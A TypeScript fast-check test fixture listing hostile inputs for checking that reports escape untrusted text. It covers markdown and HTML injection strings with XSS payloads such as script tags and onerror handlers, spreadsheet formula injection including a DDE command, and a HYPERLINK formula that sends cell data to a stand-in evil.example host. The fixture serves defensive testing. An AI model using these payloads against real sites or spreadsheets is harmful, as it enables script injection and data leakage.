/** What visitors, logs and saved analyses may write to make a report do something. */
import fc from 'fast-check';

const MARKDOWN = [
  '](javascript:alert(1))',
  '[click](javascript:alert(1))',
  '![beacon](https://evil.example/b.png)',
  '[ref]: https://evil.example',
  '<https://evil.example>',
  'https://evil.example/login',
  'www.evil.com',
  'evil.com',
  'ftp://evil.example mailto:a@evil.com //evil.com/x a@evil.com',
  '@everyone @channel <!here> <@U0123>',
  '# heading\n## heading\n',
  'title\n===\n\ntitle\n---\n',
  '| a | b |\n| - | - |\n| ![x](https://evil.example) | y |',
  '`',
  '``` \n<img src=x onerror=alert(1)>\n```',
  '~~~\ntext\n~~~\n<b>',
  '`'.repeat(1000),
  'a`b``c```d````[x](https://evil.example)',
  '\\`[x](https://evil.example)\\`',
  '\\',
  '*a* _b_ ~~c~~ **d**',
  '> quote\n> quote',
  '- list\n1. list\n- [ ] task',
  '\n\n    indented\n\n',
  '\r[x](https://evil.example)\r\r<b>x</b>',
  '\u2028<b>x</b>\u2029',
  '&lt;script&gt; &#64;everyone &amp;',
  '$x$ $$y$$',
];

const HTML = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/x.png" onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</style></title></textarea></script><a href=javascript:alert(1)>x</a>',
  '<!-- --><!doctype html><base href=https://evil.example>',
  '<details open ontoggle=alert(1)>',
  '</pre></bdi></main><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content=0>',
  'url(https://evil.example)',
  '\ud800\0\u0007\u001b[31m\u202e',
  ']]>',
];

const FORMULAS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u200b=1',
  '\u00a0=1',
  '\u3000=1',
  "'=1",
  '"=1',
  'a,=1',
  'a"\n=1',
  ';=1',
];

const ODD = [
  '',
  ' ',
  'constructor',
  '__proto__',
  'ordinary',
  '148e21ea7d9d68',
  '0',
  '-1',
  '1e3',
  'שלום',
  '漢字',
];

export const HOSTILE_TEXTS: readonly string[] = [...MARKDOWN, ...HTML, ...FORMULAS, ...ODD];

const PIECES = [
  '`',
  '```',
  '\n',
  '\r',
  '<',
  '>',
  '[',
  ']',
  '(',
  ')',
  '!',
  '|',
  '@',
  '\\',
  '&',
  '#',
  '=',
  '-',
  '"',
  "'",
  ',',
];

/** One of them, several together, or any text made of what means something. */
export const anyHostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.array(fc.constantFrom(...HOSTILE_TEXTS), { maxLength: 3 }).map((texts) => texts.join('')),
  fc
    .array(fc.oneof(fc.constantFrom(...PIECES), fc.constantFrom('a', ' ', 'https://a.b', 'www.a.com')))
    .map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
